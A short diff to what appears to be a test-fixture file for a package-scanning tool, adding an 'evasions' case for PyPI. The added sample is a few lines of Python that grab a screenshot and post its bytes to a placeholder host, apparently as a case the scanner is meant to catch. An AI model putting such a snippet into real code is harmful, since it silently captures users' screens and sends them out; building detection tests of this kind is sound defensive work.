@@ -54,5 +54,14 @@ Remote-control and testing tools do so openly, on request, and as their stated p
         },
       },
     ],
+    evasions: [
+      {
+        ecosystem: "pypi",
+        files: {
+          "demo/a.py":
+            "from PIL import ImageGrab as g\nimport httpx\nx = g.grab()\nhttpx.post('http://example.invalid', data=x.tobytes())\n",
+        },
+      },
+    ],
   },
 };
